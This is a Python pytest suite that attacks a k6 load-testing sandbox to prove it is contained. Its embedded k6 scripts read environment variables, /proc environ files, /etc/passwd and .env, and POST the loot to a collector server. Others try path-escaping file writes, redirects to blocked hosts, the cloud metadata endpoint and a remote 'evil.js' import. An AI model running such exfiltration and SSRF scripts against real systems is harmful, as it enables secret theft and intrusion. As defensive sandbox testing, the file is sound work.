"""The attack suite (SPEC §8): hostile scripts run for real in the sandbox and are proven harmless.

Each attack runs through the executor directly (skipping the vetting), so what
stops it is the sandbox, k6's flags and the environment; where the vetting
would have refused the script first, that is checked too.
"""

from __future__ import annotations

import os
import threading
import uuid
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import orjson
import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile

from runs.engine.bundle import Bundle
from runs.engine.findings import find_problems
from runs.models import Run
from runs.pipeline import run_execute

pytestmark = pytest.mark.django_db(transaction=True)

ROOT = Path(__file__).resolve().parents[2]
CANARY = "canary-7f3a9c-secret"


class Sink:
    """An HTTP server that records everything sent to it (the attacker's collection point)."""

    def __init__(self, host: str = "127.0.0.1", redirect_to: str | None = None) -> None:
        self.requests: list[tuple[str, str, bytes]] = []
        sink = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _record(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                sink.requests.append((self.command, self.path, body))
                self.send_response(302 if redirect_to else 200)
                if redirect_to:
                    self.send_header("Location", redirect_to)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_CONNECT = _record

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer((host, 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        host, port = self.server.server_address[:2]
        assert isinstance(host, str)
        return f"http://{host}:{port}"

    def bodies(self) -> bytes:
        return b"\n".join(body for _, _, body in self.requests)


@pytest.fixture
def sink() -> Iterator[Callable[..., Sink]]:
    sinks: list[Sink] = []

    def start(**options: Any) -> Sink:
        sinks.append(Sink(**options))
        return sinks[-1]

    yield start
    for started in sinks:
        started.server.shutdown()
        started.server.server_close()


@pytest.fixture(autouse=True)
def k6_only(settings: Any) -> None:
    """The attacks are on k6 and its box: the analyzers, which would visit the busiest origin too (the
    sink, here) and add their own requests to its count, are not part of them."""
    settings.RUN_POST_STAGES = []


def execute(make_run: Callable[..., Run], script: str) -> Run:
    return run_execute(make_run(script, planned_duration_s=5).pk)


def test_environment_and_proc_environ_never_reach_the_sink(
    make_run: Callable[..., Run], sink: Callable[..., Sink], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("K6INTEL_CANARY", CANARY)
    collector = sink()
    script = f"""
import http from 'k6/http';
function grab(path) {{ try {{ return open(path); }} catch (e) {{ return 'ERR ' + e; }} }}
const loot = {{
  env: __ENV,
  proc1: grab('/proc/1/environ'),
  self: grab('/proc/self/environ'),
  parent: grab('/proc/{os.getpid()}/environ'),
  parentCmd: grab('/proc/{os.getppid()}/environ'),
}};
export const options = {{ iterations: 1 }};
export default function () {{ http.post('{collector.url}/loot', JSON.stringify(loot)); }}
"""
    run = execute(make_run, script)
    assert run.status == "done", run.error
    assert len(collector.requests) == 1  # the exfiltration request itself did go out…
    loot = collector.bodies()
    assert CANARY.encode() not in loot  # …but carried nothing of the worker's
    assert django_settings.SECRET_KEY.encode() not in loot
    assert b"DATABASE_URL" not in loot and b"REDIS_URL" not in loot
    assert orjson.loads(loot)["env"] == {}
    proc_reads = orjson.loads(loot)
    assert all(proc_reads[key].startswith("ERR ") for key in ("proc1", "self", "parent", "parentCmd"))


def test_files_outside_the_work_dir_cannot_be_read(make_run: Callable[..., Run], sink: Callable[..., Sink]) -> None:
    collector = sink()
    paths = ["/etc/passwd", str(ROOT / "k6intel" / "settings.py"), str(ROOT / ".env"), "../../../../etc/hostname"]
    script = f"""
import http from 'k6/http';
function grab(path) {{ try {{ return open(path); }} catch (e) {{ return 'ERR ' + e; }} }}
const loot = {orjson.dumps(paths).decode()}.map(grab);
export const options = {{ iterations: 1 }};
export default function () {{ http.post('{collector.url}/files', JSON.stringify(loot)); }}
"""
    run = execute(make_run, script)
    assert run.status == "done", run.error
    results = orjson.loads(collector.bodies())
    assert all(result.startswith("ERR ") for result in results), results
    assert django_settings.SECRET_KEY.encode() not in collector.bodies()
    assert len([f for f in find_problems(single_file(script)) if f.rule == "file_access"]) == 0  # computed: the sandbox's job


def test_handle_summary_cannot_write_outside_its_directory(make_run: Callable[..., Run], tmp_path: Path) -> None:
    marker = uuid.uuid4().hex
    script = f"""
export const options = {{ iterations: 1 }};
export default function () {{}}
export function handleSummary(data) {{
  return {{ '/tmp/escape-{marker}.txt': 'x', '../escape-{marker}.txt': 'x', '{tmp_path}/escape-{marker}.txt': 'x', stdout: 'ok' }};
}}
"""
    execute(make_run, script)
    host_paths = [Path(f"/tmp/escape-{marker}.txt"), tmp_path / f"escape-{marker}.txt"]
    assert not any(path.exists() for path in host_paths)
    assert not list(Path("/tmp").glob(f"**/escape-{marker}.txt"))
    assert find_problems(single_file(script)) == []  # writing files is welcome; only the box's own directory keeps them


def test_proxy_variables_are_not_passed_to_k6(
    make_run: Callable[..., Run], sink: Callable[..., Sink], demo_target: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    proxy = sink()
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY"):
        monkeypatch.setenv(name, proxy.url)
    target = demo_target(latency_min_ms=1, latency_max_ms=2)
    script = f"import http from 'k6/http';\nexport const options = {{ iterations: 3 }};\nexport default function () {{ http.get('{target.url}/'); }}\n"
    run = execute(make_run, script)
    assert run.status == "done" and target.errors.count == 3
    assert proxy.requests == []


def test_loopback_is_blocked_inside_k6_unless_allowed(
    make_run: Callable[..., Run], sink: Callable[..., Sink], settings: Any
) -> None:
    settings.ALLOW_LOOPBACK_TARGETS = False
    collector = sink()
    script = f"import http from 'k6/http';\nexport const options = {{ iterations: 2 }};\nexport default function () {{ http.get('{collector.url}/'); }}\n"
    run = execute(make_run, script)
    assert collector.requests == []
    assert "blacklisted" in run.log
    assert run.result.metrics["http_req_failed"]["rate"] == 1.0


def test_a_redirect_to_a_blocked_address_is_not_followed(
    make_run: Callable[..., Run], sink: Callable[..., Sink], settings: Any
) -> None:
    settings.ALLOW_LOOPBACK_TARGETS = False
    settings.TARGET_ALLOWLIST = ["127.0.0.1/32"]
    hidden = sink(host="127.0.0.2")
    bouncer = sink(redirect_to=f"{hidden.url}/internal")
    script = f"import http from 'k6/http';\nexport const options = {{ iterations: 1 }};\nexport default function () {{ http.get('{bouncer.url}/'); }}\n"
    run = execute(make_run, script)
    assert len(bouncer.requests) == 1  # the allowed host was reached…
    assert hidden.requests == []  # …its redirect to a blocked one was not
    assert "blacklisted" in run.log


def test_metadata_is_blocked_even_when_everything_private_is_allowed(make_run: Callable[..., Run], settings: Any) -> None:
    settings.ALLOW_PRIVATE_TARGETS = True
    settings.TARGET_ALLOWLIST = ["169.254.0.0/16"]
    script = "import http from 'k6/http';\nexport const options = { iterations: 1 };\nexport default function () { http.get('http://169.254.169.254/latest/meta-data/', { timeout: '2s' }); }\n"
    run = execute(make_run, script)
    assert "blacklisted" in run.log


def test_a_remote_import_is_refused_before_anything_runs(api: Any, sink: Callable[..., Sink], settings: Any) -> None:
    settings.CAPTCHA_TEST_MODE = True
    collector = sink()
    script = f"import evil from '{collector.url}/evil.js';\nexport default function () {{ evil(); }}\n".encode()
    data = {
        "project_name": "attack",
        "file": SimpleUploadedFile("remote.js", script),
        "captcha_answer": "PASSED",
        "captcha_token": "x",
        "captcha_timestamp": 0,
    }
    response = api("user").post("/api/runjs", data, format="multipart")
    assert response.status_code == 400 and "line 1" in response.json()["error"]["fields"]["file"][0]
    assert collector.requests == [] and Run.objects.count() == 0


def single_file(script: str) -> Bundle:
    return Bundle({"script.js": script.encode()}, "script.js")
